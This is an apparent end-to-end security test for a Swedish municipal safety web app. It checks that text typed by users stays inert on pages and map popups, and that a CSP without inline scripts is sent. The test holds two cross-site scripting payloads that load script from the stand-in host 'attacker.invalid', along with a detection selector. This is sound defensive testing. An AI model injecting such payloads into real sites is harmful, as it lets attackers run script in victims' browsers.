"""Attack: a script in any text a user typed must stay text in every page and map.

A coordinator of one municipality names a place (and every other free-text field) with a payload; the
police coordinator, who sees both municipalities, and a citizen open every page that shows the text and
hover and click every map marker. Nothing may run: no dialog, no request to the attacker's address.
"""

import datetime

import pytest
from django.utils import timezone

from actions.models import FocusDecision
from cameras.models import CameraSite
from demo import load_all
from demo import programme as programme_demo
from fieldwork.models import ActivityLog, PresencePlan
from incidents.models import Incident, IncidentCategory
from places.models import District, Place
from programme.models import Activity, Promise
from situation.models import SituationReport

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]

ATTACKER = "attacker.invalid"
PAYLOADS = [
    f'<img src="https://{ATTACKER}/x" onerror="alert(1)">',
    f'"><svg onload="alert(2)"><script src="https://{ATTACKER}/s.js"></script>',
]


def _plant_payloads() -> dict:
    """Payloads in every free-text field that a page or a map shows."""
    strangnas_district = District.objects.filter(municipality__slug="strangnas").first()
    strangnas_district.name = PAYLOADS[1][:100]
    strangnas_district.save()
    place = Place.objects.filter(municipality__slug="strangnas").first()
    place.name = PAYLOADS[0]
    place.save()
    PresencePlan.objects.filter(municipality__slug="strangnas").update(title=PAYLOADS[0])
    ActivityLog.objects.filter(municipality__slug="strangnas").update(observations=PAYLOADS[1])
    Promise.objects.filter(focus_area__promise_set__municipality__slug="strangnas").update(text=PAYLOADS[0])
    Activity.objects.filter(promise__focus_area__promise_set__municipality__slug="strangnas").update(title=PAYLOADS[1])
    for i, camera in enumerate(CameraSite.objects.filter(municipality__slug="strangnas")):
        CameraSite.objects.filter(pk=camera.pk).update(name=f"{PAYLOADS[0]} {i}", purpose=PAYLOADS[1])
    IncidentCategory.objects.filter(parent__isnull=False).update(name=PAYLOADS[0][:100])
    Incident.objects.filter(municipality__slug="strangnas").update(description=PAYLOADS[1])
    report = SituationReport.objects.filter(municipality__slug="strangnas", status="draft").first()
    SituationReport.objects.filter(pk=report.pk).update(analysis=PAYLOADS[0])
    FocusDecision.objects.create(
        report=report,
        place=place,
        action=PAYLOADS[1][:300],
        owner=place.municipality.organisations.first(),
        due_date=timezone.localdate() + datetime.timedelta(days=7),
    )
    return {"report": report, "place": place}


def _watch(page) -> dict:
    seen = {"dialogs": [], "requests": []}
    page.on("dialog", lambda dialog: (seen["dialogs"].append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: ATTACKER in request.url and seen["requests"].append(request.url))
    return seen


INJECTED = "img[src*='attacker'], svg[onload], script[src*='attacker']"


def _in_view(page, shape) -> bool:
    """Whether a person could point at the shape: visible, and its middle inside the window once the page
    is scrolled to it (the map may have panned a district's outline partly out of its own frame)."""
    if not shape.is_visible():
        return False
    shape.scroll_into_view_if_needed()
    box = shape.bounding_box()
    if box is None:
        return False
    middle_x, middle_y = box["x"] + box["width"] / 2, box["y"] + box["height"] / 2
    view = page.viewport_size
    return 0 <= middle_x < view["width"] and 0 <= middle_y < view["height"]


def _touch_every_marker(page) -> int:
    """Hover and click every interactive map shape in view, so tooltips and popups render; none may inject
    markup."""
    shapes = page.locator("path.leaflet-interactive")
    for i in range(shapes.count()):
        shape = shapes.nth(i)
        if _in_view(page, shape):
            shape.hover(force=True)
            shape.click(force=True)
            assert page.locator(INJECTED).count() == 0, page.url
    return shapes.count()


def _log_in(page, url: str, username: str) -> None:
    page.goto(url + "/konto/logga-in/")
    page.get_by_label("Användarnamn").fill(username)
    page.get_by_label("Lösenord").fill(programme_demo.DEMO_PASSWORD)
    page.get_by_role("button", name="Logga in").click()


def test_payloads_in_every_free_text_field_stay_inert(live_server, page, settings):
    settings.MAP_TILE_URL = ""
    load_all()
    planted = _plant_payloads()
    seen = _watch(page)
    _log_in(page, live_server.url, "kommunpolis")
    report = planted["report"]
    internal = [
        "/falt/platser/",
        f"/falt/platser/{planted['place'].pk}/andra/",
        "/falt/planer/",
        "/falt/vecka/",
        "/falt/loggar/",
        "/falt/kameror/",
        f"/lagesbild/strangnas/{report.iso_week}/version/{report.version}/",
        "/lagesbild/strangnas/rapportera/",
        "/samordning/",
    ]
    markers = 0
    for path in internal:
        page.goto(live_server.url + path)
        page.wait_for_load_state("load")
        markers += _touch_every_marker(page)
    page.context.clear_cookies()
    for path in ["/", "/strangnas/rapportera/", "/strangnas/trygghetskarta/", "/strangnas/medborgarloften/2024-2025/"]:
        page.goto(live_server.url + path)
        page.wait_for_load_state("load")
        markers += _touch_every_marker(page)
    assert markers > 20  # the maps were drawn and touched
    assert seen["dialogs"] == []
    assert seen["requests"] == []


def test_every_page_sends_a_csp_without_inline_scripts(client, db):
    response = client.get("/")
    policy = response["Content-Security-Policy"]
    script_src = next(part for part in policy.split(";") if part.strip().startswith("script-src"))
    assert "unsafe-inline" not in script_src and "'self'" in script_src
    assert "camera=()" in response["Permissions-Policy"]
